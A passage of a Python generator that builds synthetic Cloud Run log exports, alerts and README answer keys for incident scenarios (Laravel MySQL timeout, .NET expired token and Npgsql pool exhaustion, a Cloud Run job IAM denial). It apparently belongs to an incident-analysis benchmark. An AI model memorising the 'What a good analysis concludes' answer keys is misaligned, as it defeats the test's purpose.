                "at /var/www/html/vendor/laravel/framework/src/Illuminate/Database/Connectors/Connector.php:66)",
            ], "laravel db error", log="stderr")
        # every worker is stuck in a connect: the pool is full, nginx waits and gives up after 60 s
        for _ in range(2):
            ns = ex.at(mns)
            ex.text(ns, portal, f"{fpm(ns)} WARNING: [pool www] server reached pm.max_children setting (10), "
                    "consider raising it", "php-fpm max_children", log="stderr")
        if m % 3 == 0:
            ns = ex.at(mns)
            ex.text(ns, portal, f"{fpm(ns)} WARNING: [pool www] child {r.randrange(20, 400)}, script "
                    "'/var/www/html/public/index.php' (request: \"GET /index.php\") executing too slow "
                    f"({r.uniform(10, 14):.6f} sec), logging", "php-fpm slowlog", log="stderr")

    alert_doc = ratio_5xx_alert(
        ex, "portal", incident_id="0.b7hw2kq9xm4s", policy="portal 5xx ratio (production)",
        policy_id="9120377461803357719", started=start + timedelta(minutes=outage + 2), severity="Critical",
        labels={"environment": "production"}, observed="0.792",
        doc="More than 5% of `portal` requests fail with 5xx.")
    readme = f"""# php-laravel-fpm: Laravel portal loses its Cloud SQL MySQL; php-fpm and nginx pile up behind it

Recorded-shape export for project `acme-portal-prd` (`europe-west3`, environment `production`),
2025-11-20 10:00–10:40 UTC. Services: `portal` (Laravel 11 on PHP 8.3, php-fpm and nginx in one
container under supervisord, Cloud SQL for MySQL over the private IP `{db}:3306`), `webhooks`
(Laravel, queues to Redis only).

## What happened

- **10:11** the MySQL instance stops answering on `{db}:3306` (a stalled failover): connects neither
  succeed nor get refused. Laravel's PDO connect gives up after its 5 s `PDO::ATTR_TIMEOUT` and logs
  `production.ERROR: SQLSTATE[HY000] [2002] Connection timed out (Connection: mysql, SQL: ...)` with
  `Illuminate\\Database\\QueryException(code: 2002)`; the `[stacktrace]` lines and the
  `[previous exception] ... PDOException(code: 2002)` line each arrive as their own entry. Those
  requests answer 500 after ~5 s.
- Every php-fpm child is stuck in a connect, so php-fpm logs
  `WARNING: [pool www] server reached pm.max_children setting (10), consider raising it` and requests
  queue; nginx gives up after `fastcgi_read_timeout` 60 s:
  `upstream timed out (110: Connection timed out) while reading response header from upstream, ...
  upstream: "fastcgi://127.0.0.1:9000"` and answers 504. About 80% of portal requests fail (500 or 504).
  The alert opens at 10:13.
- All of it is plain text on stderr/stdout: no entry carries a severity; nginx writes `[error]`,
  php-fpm `WARNING:`, Laravel `production.ERROR:`.
- `webhooks` never touches MySQL and is healthy. Noise: supervisord and php-fpm start-up notices, nginx
  access lines, a PHP 8.2 "Creation of dynamic property ... is deprecated" warning.

## What a good analysis concludes

- health: portal FAILING, webhooks HEALTHY.
- root: `database` in `portal`: MySQL at `{db}:3306` unreachable (connection timed out). php-fpm's
  `pm.max_children` and nginx's upstream timeouts (504) are symptoms of workers stuck on the database,
  not separate causes; raising `pm.max_children` would not help.
- P0 action is the MySQL connection (its host when the log names one: Laravel 11's message carries no
  host, so `{db}` is not in the evidence). No deploy
  happened: nothing to roll back.
"""
    return ex, alert_doc, readme


# =================================================================================================
# 3. .NET: ASP.NET Core on Kestrel, an expired service token; an Npgsql pool
# =================================================================================================

PII = "[PII of type 'System.DateTime' is hidden. For more details, see https://aka.ms/IdentityModel/PII.]"


def dotnet_kestrel_token() -> tuple[Export, Json, str]:
    start = datetime(2025, 11, 25, 8, 40, tzinfo=UTC)
    ex = Export("acme-ledger-prd", 550218734906, "us-central1", seed=20251125, request_share=0.03)
    r = ex.rng
    t0, minutes, expiry, slow = ns_of(start), 45, 21, 12
    ledger, fx = Revision("ledger-api", "ledger-api-00077-jiv"), Revision("fx-rates", "fx-rates-00019-pux")
    stm = Revision("statements-api", "statements-api-00133-fen")

    def conn_id() -> str:
        alphabet = "0123456789ABCDEFGHIJKLMNOPQRSTUV"
        return "0HN8" + "".join(r.choice(alphabet) for _ in range(9))

    def dotnet_json(ns: int, rev: Revision, level: str, category: str, event: int, message: str, kind: str,
                    exception: str | None = None, state: Json | None = None) -> None:
        payload: Json = {"EventId": event, "LogLevel": level, "Category": category, "Message": message,
                         "State": {"Message": message, **(state or {})}}
        if exception:
            payload["Exception"] = exception
        ex.json(ns, rev, payload, kind)

    def simple(ns: int, rev: Revision, level: str, category: str, event: int, lines: list[str], kind: str) -> None:
        ex.lines(ns, rev, [f"{level}: {category}[{event}]", *(("      " + line) for line in lines)], kind)

    def host_start(ns: int, rev: Revision, as_json: bool) -> None:
        inst = ex.new_instance(rev)
        notices = [
            ("warn", "Microsoft.AspNetCore.DataProtection.Repositories.EphemeralXmlRepository", 50,
             "Using an in-memory repository. Keys will not be persisted to storage."),
            ("warn", "Microsoft.AspNetCore.DataProtection.KeyManagement.XmlKeyManager", 59,
             "Neither user profile nor HKLM registry available. Using an ephemeral key repository. Protected data "
             "will be unavailable when application exits."),
            ("info", "Microsoft.Hosting.Lifetime", 14, "Now listening on: http://[::]:8080"),
            ("info", "Microsoft.Hosting.Lifetime", 0, "Application started. Press Ctrl+C to shut down."),
            ("info", "Microsoft.Hosting.Lifetime", 0, "Hosting environment: Production"),
            ("info", "Microsoft.Hosting.Lifetime", 0, "Content root path: /app"),
        ]
        for i, (level, category, event, message) in enumerate(notices):
            at = ns + i * 3_000_000
            if as_json:
                word = {"warn": "Warning", "info": "Information"}[level]
                ex.json(at, rev, {"EventId": event, "LogLevel": word, "Category": category, "Message": message,
                                  "State": {"Message": message}}, "aspnet startup", instance=inst)
            else:
                ex.lines(at, rev, [f"{level}: {category}[{event}]", "      " + message], "aspnet startup",
                         instance=inst)
        ex.system(ns + 200_000_000, rev, 'Default STARTUP TCP probe succeeded after 1 attempt for container '
                  f'"{rev.service}-1" on port 8080.', "platform info", severity="INFO", instance=inst)

    # ledger-api's instances started at the 07:59 scale-out, each caching a 60-minute token at start
    for k in range(3):
        host_start(t0 - (60 - 13 * k) * NS_PER_S, ledger, as_json=True)
    host_start(t0 - 900 * NS_PER_S, fx, as_json=False)
    host_start(t0 - 700 * NS_PER_S, stm, as_json=False)

    def ledger_route(status: int) -> tuple[str, str, float]:
        method, path = r.choice([("POST", "/v1/postings"), ("POST", "/v1/postings"),
                                 ("GET", "/v1/accounts/{n}/balance"), ("POST", "/v1/transfers")])
        latency = r.uniform(0.04, 0.3) if status < 500 else r.uniform(0.02, 0.08)
        return method, path.replace("{n}", str(r.randrange(10**6, 10**7))), latency

    def ledger_failure(ns: int, status: int, method: str, path: str, latency: float) -> None:
        if status != 500:
            if r.random() < 0.3:
                dotnet_json(ns, ledger, "Information", "Ledger.Api.Postings.PostingService", 0,
                            f"Posted journal entry je_{ex.hexid(6)} ({r.randrange(2, 6)} lines, EUR)", "ledger info")
            return
        pair = r.choice(["EUR/USD", "GBP/EUR", "USD/JPY", "EUR/CHF"])
        expired = clock(t0 + expiry * NS_PER_MIN - r.randrange(0, 300) * NS_PER_S, "%m/%d/%Y %H:%M:%S")
        dotnet_json(ns - 2_000_000, ledger, "Warning", "Ledger.Api.Rates.FxRatesClient", 0,
                    f"fx-rates answered 401 Unauthorized for {pair}; WWW-Authenticate: Bearer "
                    f"error=\"invalid_token\", error_description=\"The token expired at '{expired}'\"",
                    "ledger fx 401")
        cid = conn_id()
        tid = f"{cid}:{r.randrange(1, 40):08X}"
        message = f'Connection id "{cid}", Request id "{tid}": An unhandled exception was thrown by the application.'
        dotnet_json(ns, ledger, "Error", "Microsoft.AspNetCore.Server.Kestrel", 13, message, "kestrel unhandled",
                    exception=(
                        "System.Net.Http.HttpRequestException: Response status code does not indicate success: "
                        "401 (Unauthorized).\n"
                        "   at System.Net.Http.HttpResponseMessage.EnsureSuccessStatusCode()\n"
                        "   at Ledger.Api.Rates.FxRatesClient.GetRateAsync(String pair, CancellationToken ct) in "
                        "/src/Ledger.Api/Rates/FxRatesClient.cs:line 57\n"
                        "   at Ledger.Api.Postings.PostingService.ConvertAsync(Posting posting, "
                        "CancellationToken ct) in /src/Ledger.Api/Postings/PostingService.cs:line 112\n"
                        "   at Program.<>c.<<<Main>$>b__0_3>d.MoveNext() in /src/Ledger.Api/Program.cs:line 48\n"
                        "--- End of stack trace from previous location ---\n"
                        "   at Microsoft.AspNetCore.Http.RequestDelegateFactory.ExecuteTaskResult[T](Task`1 task, "
                        "HttpContext httpContext)\n"
                        "   at Microsoft.AspNetCore.Server.Kestrel.Core.Internal.Http.HttpProtocol.ProcessRequests"
                        "[TContext](IHttpApplication`1 application)"),
                    state={"ConnectionId": cid, "TraceIdentifier": tid,
                           "{OriginalFormat}": 'Connection id "{ConnectionId}", Request id "{TraceIdentifier}": '
                                               "An unhandled exception was thrown by the application."})

    def fx_route(status: int) -> tuple[str, str, float]:
        return "GET", f"/v1/rates/{r.choice(['EUR-USD', 'GBP-EUR', 'USD-JPY', 'EUR-CHF'])}", r.uniform(0.003, 0.02)

    def fx_lines(ns: int, status: int, method: str, path: str, latency: float) -> None:
        if status != 401:
            return
        simple(ns, fx, "info", "Microsoft.AspNetCore.Authentication.JwtBearer.JwtBearerHandler", 1, [
            "Failed to validate the token.",
            f"Microsoft.IdentityModel.Tokens.SecurityTokenExpiredException: IDX10223: Lifetime validation failed. "
            f"The token is expired. ValidTo (UTC): '{PII}', Current time (UTC): '{PII}'.",
            "   at Microsoft.IdentityModel.Tokens.Validators.ValidateLifetime(Nullable`1 notBefore, "
            "Nullable`1 expires, SecurityToken securityToken, TokenValidationParameters validationParameters)",
        ], "jwt expired")
        simple(ns + 900_000, fx, "info", "Microsoft.AspNetCore.Authentication.JwtBearer.JwtBearerHandler", 7, [
            "Bearer was not authenticated. Failure message: IDX10223: Lifetime validation failed. The token is "
            f"expired. ValidTo (UTC): '{PII}', Current time (UTC): '{PII}'."], "jwt expired")
        simple(ns + 1_200_000, fx, "info", "Microsoft.AspNetCore.Authentication.JwtBearer.JwtBearerHandler", 12,
               ["AuthenticationScheme: Bearer was challenged."], "jwt challenge")

    def stm_route(status: int) -> tuple[str, str, float]:
        path = r.choice(["/v1/statements/monthly", "/v1/statements/monthly", "/v1/statements/{n}/pdf"])
        latency = r.uniform(15.0, 15.3) if status == 500 else r.uniform(0.2, 3.5)
        return "GET", path.replace("{n}", str(r.randrange(10**5, 10**6))), latency

    def stm_error(ns: int) -> None:
        cid = conn_id()
        head = [f'Connection id "{cid}", Request id "{cid}:{r.randrange(1, 30):08X}": An unhandled exception was '
                "thrown by the application."]
        if r.random() < 0.75:
            body = ["Npgsql.NpgsqlException (0x80004005): The connection pool has been exhausted, either raise "
                    "'Max Pool Size' (currently 20) or 'Timeout' (currently 15 seconds) in your connection string.",
                    " ---> System.TimeoutException: The operation has timed out.",
                    "   --- End of inner exception stack trace ---",
                    "   at Npgsql.PoolingDataSource.<Get>g__RentAsync|34_0(NpgsqlConnection conn, NpgsqlTimeout "
                    "timeout, Boolean async, CancellationToken cancellationToken)"]
        else:
            body = ["Npgsql.NpgsqlException (0x80004005): Exception while reading from stream",
                    " ---> System.TimeoutException: Timeout during reading attempt",
                    "   at Npgsql.Internal.NpgsqlConnector.<ReadMessage>g__ReadMessageLong|240_0(Boolean async, "
                    "DataRowLoadingMode dataRowLoadingMode, Boolean readingNotifications, "
                    "Boolean isReadingPrependedMessage)"]
        simple(ns, stm, "fail", "Microsoft.AspNetCore.Server.Kestrel", 13, head + body, "npgsql error")

    for m in range(minutes):
        mns = t0 + m * NS_PER_MIN
        if m < expiry:
            lmix = {200: r.randrange(80, 92), 201: r.randrange(25, 32), 400: r.randrange(0, 3)}
            fmix = {200: r.randrange(110, 125)}
        elif m < expiry + 3:
            bad = r.randrange(35, 60)
            lmix = {200: r.randrange(40, 50), 201: r.randrange(10, 16), 500: bad}
            fmix = {200: r.randrange(60, 75), 401: bad}
        else:
            bad = r.randrange(85, 100)
            lmix = {200: r.randrange(12, 20), 201: r.randrange(4, 8), 500: bad}
            fmix = {200: r.randrange(25, 35), 401: bad}
        ex.traffic(mns, ledger, lmix, ledger_route, ua="acme-web/8.1 (+https://app.acme.example)",
                   on_logged=ledger_failure)
        ex.traffic(mns, fx, fmix, fx_route, ua=DOTNET_UA, on_logged=fx_lines)
        smix = {200: r.randrange(30, 38)} if m < slow else {200: r.randrange(26, 32), 500: r.randrange(4, 7)}
        ex.traffic(mns, stm, smix, stm_route, ua="acme-web/8.1 (+https://app.acme.example)")
        if m >= slow:
            stm_error(ex.at(mns))  # one of the minute's failed requests, with the exception it logged
        if m >= slow and m % 2 == 0:
            ns = ex.at(mns)
            simple(ns, stm, "warn", "Microsoft.EntityFrameworkCore.Database.Command", 20100, [
                f"Executed DbCommand ({r.randrange(28000, 41000)}ms) [Parameters=[@__month_0='2025-10-01', "
                "@__accountId_1='?' (DbType = Int64)], CommandType='Text', CommandTimeout='30']",
                'SELECT t."Id", t."AccountId", t."Amount", t."BookedAt" FROM "Transactions" AS t WHERE '
                't."AccountId" = @__accountId_1 AND date_trunc(\'month\', t."BookedAt") = @__month_0'],
                   "efcore slow query")

    alert_doc = ratio_5xx_alert(
        ex, "ledger-api", incident_id="0.w9c4ng1yt3fo", policy="ledger-api 5xx ratio (prod)",
        policy_id="7731928846510093340", started=start + timedelta(minutes=expiry + 2), severity="Critical",
        labels={"env": "prod", "team": "ledger"}, observed="0.842",
        doc="More than 5% of `ledger-api` requests fail with 5xx.")
    readme = """# dotnet-kestrel-token: ledger-api presents an expired service token; statements-api starves its pool

Recorded-shape export for project `acme-ledger-prd` (`us-central1`, env `prod`), 2025-11-25
08:40–09:25 UTC. Services: `ledger-api`, `fx-rates`, `statements-api` (ASP.NET Core 8 on Kestrel).
`ledger-api` logs with the JSON console formatter (`builder.Logging.AddJsonConsole()`: `LogLevel`,
`Category`, `EventId`, `Message`, `Exception`, no `severity` field, so Cloud Run stores every line as
DEFAULT); `fx-rates` and `statements-api` use the default simple console formatter, whose multi-line
messages (`fail: Category[EventId]` then indented lines) arrive one entry per line.

## What happened

- `ledger-api` mints a client-credentials token for `fx-rates` once per instance at start and caches
  it in a singleton; it never refreshes. Its instances started together in the 07:59 scale-out, so at
  **09:01** their 60-minute tokens expire together.
- `fx-rates` rejects them correctly: `info: ...JwtBearerHandler[1] Failed to validate the token.`,
  `Microsoft.IdentityModel.Tokens.SecurityTokenExpiredException: IDX10223: Lifetime validation failed.
  The token is expired. ValidTo (UTC): '[PII ... is hidden ...]'`, `Bearer was challenged`, 401.
- `ledger-api` logs `fx-rates answered 401 Unauthorized ...; WWW-Authenticate: Bearer error="invalid_token",
  error_description="The token expired at '...'"`, then `EnsureSuccessStatusCode()` throws
  `System.Net.Http.HttpRequestException: Response status code does not indicate success: 401 (Unauthorized).`,
  unhandled: `Microsoft.AspNetCore.Server.Kestrel[13] Connection id "...", Request id "...": An unhandled
  exception was thrown by the application.` and the client gets 500. About 85% of ledger-api requests
  fail from 09:04. The alert opens at 09:03. No deploy in the window.
- **08:52**, independently, `statements-api`'s monthly statement query turns slow (28–41 s, EF Core
  `Executed DbCommand (...ms)` warnings): its 20-connection Npgsql pool is held by slow queries and other
  requests wait 15 s and fail with `Npgsql.NpgsqlException (0x80004005): The connection pool has been
  exhausted, either raise 'Max Pool Size' (currently 20) or 'Timeout' (currently 15 seconds)`, some with
  `Exception while reading from stream ---> System.TimeoutException: Timeout during reading attempt`.
  About 15% of its requests answer 500.
- Noise: ASP.NET Core data-protection warnings (`Using an in-memory repository. Keys will not be persisted
  to storage.`, `Neither user profile nor HKLM registry available...`) at every start; hosting lifetime lines.

## What a good analysis concludes

- health: ledger-api FAILING (about 85% of its requests fail since 09:04, the last 21 minutes of the
  window; about 40% over the whole window), statements-api DEGRADED, fx-rates HEALTHY (its 401s are
  correct answers to an expired token, not a server failure).
- roots: one `auth` root (expired token: ledger-api's cached service token for fx-rates, IDX10223 /
  "The token expired at"; the same token seen from both sides is one cause), first; separately
  `database` in `statements-api` (Npgsql pool exhausted behind slow queries). The 500s and Kestrel[13]
  lines are symptoms; the data-protection warnings are noise.
- P0 actions: refresh (or stop caching) ledger-api's token for fx-rates; relieve statements-api's pool
  (the slow query / `Max Pool Size` 20 / `Timeout` 15 s). No deploy: nothing to roll back.
"""
    return ex, alert_doc, readme


# =================================================================================================
# 4. A Cloud Run job: every task attempt is denied on the export bucket
# =================================================================================================

def run_job_failed() -> tuple[Export, Json, str]:
    start = datetime(2025, 11, 27, 2, 0, tzinfo=UTC)
    ex = Export("acme-data-prd", 664120957318, "europe-west1", seed=20251127)
    r = ex.rng
    t0 = ns_of(start)
    job, execution, tasks, retries = "nightly-export", "nightly-export-7hq2d", 6, 3
    bucket, sa = "acme-exports-prd", "nightly-export@acme-data-prd.iam.gserviceaccount.com"
    rollup = "events-rollup"

    def audit_done(ns: int, job_name: str, exec_name: str, succeeded: int, total: int) -> None:
        failed = succeeded < total
        message = (f"Execution {exec_name} has failed to complete, {succeeded}/{total} tasks were a success."
                   if failed else f"Execution {exec_name} has completed successfully.")
        proto: Json = {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "methodName": "/Jobs.RunJob",
            "resourceName": f"namespaces/{ex.project_id}/executions/{exec_name}",
            "response": {
                "@type": "type.googleapis.com/google.cloud.run.v1.Execution",
                "apiVersion": "run.googleapis.com/v1", "kind": "Execution",
                "metadata": {"name": exec_name, "namespace": str(ex.project_number),
                             "labels": {"run.googleapis.com/job": job_name}},
                "status": {
                    "completionTime": rfc3339(ns, 6),
                    "conditions": [
                        {"type": "Completed", "status": "False" if failed else "True",
                         **({"reason": "NonZeroExitCode", "message": "Execution failed."} if failed else {})},
                        {"type": "ResourcesAvailable", "status": "True"},
                        {"type": "Started", "status": "True"},
                    ],
                    "failedCount": total - succeeded, "succeededCount": succeeded, "retriedCount":
                        (total - succeeded) * retries,
                },
            },
            "serviceName": "run.googleapis.com",
            "status": {"code": 10, "message": message} if failed else {"message": message},
        }
        ex.audit(ns, job_name, exec_name, "cloudaudit.googleapis.com/system_event", "ERROR" if failed else "INFO",
                 "execution failed" if failed else "execution succeeded", proto)
        ex.job_count("run.googleapis.com/job/completed_execution_count", job_name,
                     {"result": "failed" if failed else "succeeded"}, ns - ns % NS_PER_MIN)

    def audit_start(ns: int, job_name: str, exec_name: str) -> None:
        ex.audit(ns, job_name, exec_name, "cloudaudit.googleapis.com/activity", "NOTICE", "execution started", {
            "@type": "type.googleapis.com/google.cloud.audit.AuditLog",
            "authenticationInfo": {"principalEmail": f"scheduler@{ex.project_id}.iam.gserviceaccount.com"},
            "methodName": "google.cloud.run.v2.Jobs.RunJob",
            "resourceName": f"projects/{ex.project_id}/locations/{ex.region}/jobs/{job_name}",
            "serviceName": "run.googleapis.com",
            "requestMetadata": {"callerSuppliedUserAgent": "Google-Cloud-Scheduler"},
        })

    # events-rollup: a healthy execution every 15 minutes, two tasks each
    for q, suffix in enumerate(["k2m8p", "x7b3r", "q9d4t"]):
        exec_name = f"{rollup}-{suffix}"
        ns = t0 - 15 * NS_PER_MIN + q * 15 * NS_PER_MIN
        audit_start(ns, rollup, exec_name)
        for index in range(2):
            task = Task(rollup, exec_name, index, 0)
            inst = ex.new_instance(task)
            at = ns + (5 + index) * NS_PER_S
            ex.json(at, task, {"message": f"rollup window {clock(ns - 15 * NS_PER_MIN, '%H:%M')}–"
                                          f"{clock(ns, '%H:%M')}, partition {index}: reading events"},
                    "rollup info", severity="INFO", instance=inst)
            for j in range(3):
                ex.json(at + (4 + 5 * j) * NS_PER_S, task,
                        {"message": f"aggregated {r.randrange(20000, 90000)} events into {r.randrange(300, 900)} "
                                    f"rows (batch {j})"}, "rollup info", severity="INFO", instance=inst)
            ex.json(at + 22 * NS_PER_S, task, {"message": "rollup committed"}, "rollup info", severity="INFO",
                    instance=inst)
            done = at + 23 * NS_PER_S
            ex.job_count("run.googleapis.com/job/completed_task_attempt_count", rollup,
                         {"attempt": "0", "result": "succeeded"}, done - done % NS_PER_MIN)
        audit_done(ns + 31 * NS_PER_S, rollup, exec_name, 2, 2)

    # nightly-export: six shards, each retried three times, each attempt denied on upload
    launched = t0 + 2 * NS_PER_MIN
    audit_start(launched, job, execution)
    finished = launched
    for index in range(tasks):
        ns = launched + (8 + index * 3) * NS_PER_S
        rows = r.randrange(38000, 52000)
        for attempt in range(retries + 1):
            task = Task(job, execution, index, attempt)
            inst = ex.new_instance(task)
            ex.json(ns, task, {"message": f"starting shard {index + 1}/{tasks} (attempt {attempt}) of {execution} "
                                          "for orders dated 2025-11-26"}, "export info", severity="INFO",
                    instance=inst)
            ex.json(ns + 1 * NS_PER_S, task, {"message": "connected to orders-replica-1 (10.31.0.7:5432) as "
                                                       "nightly-export"}, "export info", severity="INFO",
                    instance=inst)
            ex.text(ns + 2 * NS_PER_S, task,
                    "/app/export.py:61: UserWarning: pandas only supports SQLAlchemy connectable "
                    "(engine/connection) or database string URI or sqlite3 DBAPI2 connection. Other DBAPI2 "
                    "objects are not tested. Please "
                    "consider using SQLAlchemy.\n  frame = pd.read_sql(QUERY, conn, params=params)",
                    "pandas warning", log="stderr", instance=inst)
            ex.json(ns + 31 * NS_PER_S, task, {"message": f"read {rows} orders from replica orders-replica-1"},
                    "export info", severity="INFO", instance=inst)
            ex.json(ns + 38 * NS_PER_S, task, {
                "message": f"wrote /tmp/orders-2025-11-26-{index}.parquet ({rows * 241 // 1024 // 1024 + 1} MiB)"},
                "export info", severity="INFO", instance=inst)
            obj = f"orders/dt=2025-11-26/part-{index:05d}.parquet"
            ex.json(ns + 39 * NS_PER_S, task, {"message": f"uploading to gs://{bucket}/{obj}"}, "export info",
                    severity="INFO", instance=inst)
            denied = (f"{sa} does not have storage.objects.create access to the Google Cloud Storage object. "
                      "Permission 'storage.objects.create' denied on resource (or it may not exist).")
            ex.text(ns + 40 * NS_PER_S, task, "\n".join([
                "Traceback (most recent call last):",
                '  File "/app/export.py", line 142, in <module>',
                "    main()",
                '  File "/app/export.py", line 131, in main',
                "    upload(bucket, local_path, object_name)",
                '  File "/app/export.py", line 88, in upload',
                '    blob.upload_from_filename(local_path, content_type="application/vnd.apache.parquet")',
                '  File "/usr/local/lib/python3.12/site-packages/google/cloud/storage/blob.py", line 3002, in '
                "upload_from_filename",
                "    self._handle_filename_and_upload(",
                '  File "/usr/local/lib/python3.12/site-packages/google/cloud/storage/blob.py", line 2798, in '
                "_prep_and_do_upload",
                "    _raise_from_invalid_response(exc)",
                '  File "/usr/local/lib/python3.12/site-packages/google/cloud/storage/blob.py", line 4916, in '
                "_raise_from_invalid_response",
                "    raise exceptions.from_http_status(response.status_code, message, response=response)",
                f"google.api_core.exceptions.Forbidden: 403 POST https://storage.googleapis.com/upload/storage/v1/b/"
                f"{bucket}/o?uploadType=multipart: {{",
                '  "error": {',
                '    "code": 403,',
                f'    "message": "{denied}",',
                '    "errors": [',
                "      {",
                f'        "message": "{denied}",',
                '        "domain": "global",',
                '        "reason": "forbidden"',
                "      }",
                "    ]",
                "  }",
                "}",
                ": ('Request failed with status code', 403, 'Expected one of', <HTTPStatus.OK: 200>)",
            ]), "gcs forbidden", log="stderr", severity="ERROR", instance=inst)
            ex.system(ns + 41 * NS_PER_S, task, "Container called exit(1).", "container exit", severity="WARNING",
                      instance=inst)
            ex.job_count("run.googleapis.com/job/completed_task_attempt_count", job,
                         {"attempt": str(attempt), "result": "failed"}, (ns + 41 * NS_PER_S) // NS_PER_MIN * NS_PER_MIN)
            finished = max(finished, ns + 41 * NS_PER_S)
            ns += (52 + r.randrange(0, 12)) * NS_PER_S  # the retry's new container
    audit_done(finished + 3 * NS_PER_S, job, execution, 0, tasks)

    failed_at = datetime.fromtimestamp((finished + 3 * NS_PER_S) // NS_PER_S, UTC)
    log_filter = ('resource.type="cloud_run_job" AND log_id("cloudaudit.googleapis.com/system_event") AND '
                  'protoPayload.methodName="/Jobs.RunJob" AND severity>=ERROR')
    labels = {"job_name": job, "location": ex.region, "project_id": ex.project_id}
    alert_doc = notification(
        ex, incident_id="0.f5kd8w2rq1ve", policy="Cloud Run job execution failed (prod data)",
        policy_id="1866027733940571126",
        condition={"conditionMatchedLog": {"filter": log_filter, "resourceContainers": [f"projects/{ex.project_id}"]},
                   "displayName": "Job execution failed"},
        condition_name="Job execution failed", started=failed_at, severity="Error",
        labels={"env": "prod", "team": "data"},
        resource={"labels": labels, "type": "cloud_run_job"}, resource_display=job,
        resource_type_display="Cloud Run Job",
        summary="Log match condition fired for Cloud Run Job with {"
                + ", ".join(f"{k}={v}" for k, v in labels.items()) + "}.",
        metric={"displayName": "", "labels": {}, "type": ""}, observed=None, threshold=None,
        doc="A Cloud Run job execution in `acme-data-prd` failed.")
    readme = f"""# run-job-failed: Cloud Run job nightly-export is denied on its export bucket; every retry fails

Recorded-shape export for project `acme-data-prd` (`europe-west1`, env `prod`), 2025-11-27
01:40–02:20 UTC. Resources: Cloud Run **jobs** (`resource.type = "cloud_run_job"`, label `job_name`;
entries carry `run.googleapis.com/execution_name`, `task_index`, `task_attempt`), no services and no
request traffic. `{job}` (Python 3.12, 6 tasks, `--max-retries {retries}`) and `{rollup}`.

## What happened

- The day before, a Terraform change to the bucket's IAM replaced the bindings of `gs://{bucket}`
  and dropped `roles/storage.objectCreator` for the job's service account `{sa}`.
- **02:02** Cloud Scheduler starts execution `{execution}`. Every shard reads its orders, writes the
  parquet file, and fails on upload:
  `google.api_core.exceptions.Forbidden: 403 POST https://storage.googleapis.com/upload/storage/v1/b/{bucket}/o?uploadType=multipart`
  `... {sa} does not have storage.objects.create access to the Google Cloud Storage object. Permission
  'storage.objects.create' denied on resource (or it may not exist).`, then `Container called exit(1).`
  Each task is retried {retries} times with the same result ({tasks * (retries + 1)} failed attempts).
- Cloud Run records `Execution {execution} has failed to complete, 0/{tasks} tasks were a success.`
  (audit `system_event`, ERROR); a log-match alert on that entry opens the incident.
- `{rollup}` (every 15 minutes, 2 tasks) runs successfully in the same window. Noise: pandas' "only supports
  SQLAlchemy connectable" UserWarning in every attempt.
- `metrics.json` holds the job metrics (`run.googleapis.com/job/completed_execution_count` by
  `result`, `run.googleapis.com/job/completed_task_attempt_count` by `result` and `attempt`); a job has
  no `request_count`.

## What a good analysis concludes

- health: {job} FAILING (0/{tasks} tasks, retries exhausted), {rollup} HEALTHY.
- root: `auth` (IAM permission denied) in `{job}`: `storage.objects.create` on `gs://{bucket}` for
  `{sa}`. The exits and the failed execution are symptoms; the pandas warning is noise.
- P0 action: grant the job's service account object-create on the bucket (e.g.
  `gcloud storage buckets add-iam-policy-binding gs://{bucket} --member=serviceAccount:{sa}
  --role=roles/storage.objectCreator`), then re-run the execution. A job has no traffic to roll back.
"""
    return ex, alert_doc, readme


# =================================================================================================
# 5. A noise-only spike: start-up notices of a scale-out trip a warning-count alert
# =================================================================================================

AUTH_QUOTA_WARNING = (
    "/usr/local/lib/python3.12/site-packages/google/auth/_default.py:76: UserWarning: Your application has "
    "authenticated using end user credentials from Google Cloud SDK without a quota project. You might receive a "
    '"quota exceeded" or "API not enabled" error. See the following page for troubleshooting: '
    "https://cloud.google.com/docs/authentication/adc-troubleshooting/user-creds. \n"
    "  warnings.warn(_CLOUD_SDK_CREDENTIALS_WARNING)"
)


def noise_only_spike() -> tuple[Export, Json, str]:
    start = datetime(2025, 12, 2, 6, 40, tzinfo=UTC)
    ex = Export("acme-reports-stg", 391557200184, "us-east1", seed=20251202, request_share=0.04)
    r = ex.rng
    t0, minutes, burst = ns_of(start), 40, 18
    api = Revision("reports-api", "reports-api-00208-gav")
    web = Revision("reports-web", "reports-web-00096-sut")

    def py_log(ns: int, logger: str, level: str, message: str, kind: str, inst: str) -> None:
        ex.json(ns, api, {"message": message}, kind, severity=level, log="stderr", instance=inst,
                labels={"python_logger": logger})

    def start_instance(ns: int) -> None:
        inst = ex.new_instance(api)
        banner = clock(ns, "[%Y-%m-%d %H:%M:%S +0000]")
        ex.lines(ns, api, [f"{banner} [1] [INFO] Starting gunicorn 23.0.0",
                           f"{banner} [1] [INFO] Listening at: http://0.0.0.0:8080 (1)",
                           f"{banner} [1] [INFO] Using worker: uvicorn.workers.UvicornWorker"],
                 "gunicorn banner", log="stderr", instance=inst)
        for sc in range(r.randrange(2, 4)):
            ex.system(ns + (200 + 40 * sc) * 1_000_000, api,
                      f"Container Sandbox: Unsupported syscall setsockopt(0x{r.randrange(8, 16):x},0x1,"
                      f"0x{r.choice([6, 7, 13]):x},0x3e08a4f7c6e0,0x4,0x0). It is very likely that you can "
                      "safely ignore this message and that "
                      "this is not the cause of any error you might be troubleshooting. Please, refer to "
                      "https://gvisor.dev/c/linux/amd64/setsockopt for more information.",
                      "sandbox syscall", severity="WARNING", instance=inst)
        for w, pid in enumerate((8, 9)):
            at = ns + (400 + 300 * w) * 1_000_000
            ex.lines(at, api, [f"{banner} [1] [INFO] Booting worker with pid: {pid}",
                               f"{banner} [{pid}] [INFO] Started server process [{pid}]",
                               f"{banner} [{pid}] [INFO] Waiting for application startup."],
                     "gunicorn banner", log="stderr", instance=inst)
            py_log(at + 900_000_000, "py.warnings", "WARNING", AUTH_QUOTA_WARNING, "google-auth quota project", inst)
            py_log(at + 950_000_000, "opentelemetry.trace", "WARNING", "Overriding of current TracerProvider is not "
                   "allowed", "otel override", inst)
            ex.text(at + 1_000_000_000, api, f"{banner} [{pid}] [INFO] Application startup complete.",
                    "gunicorn banner", log="stderr", instance=inst)
        ex.system(ns + 1_900_000_000, api, 'Default STARTUP TCP probe succeeded after 1 attempt for container '
                  '"reports-api-1" on port 8080.', "platform info", severity="INFO", instance=inst)

    for k in range(2):
        start_instance(t0 - (300 - 90 * k) * NS_PER_S)
    ex.new_instance(web)

    def api_route(status: int) -> tuple[str, str, float]:
        return "GET", r.choice(["/v1/reports/daily-sales", "/v1/reports/inventory", "/v1/reports/returns",
                                "/v1/exports/sheets"]) + f"?date=2025-12-0{r.randrange(1, 3)}", r.uniform(0.3, 2.4)

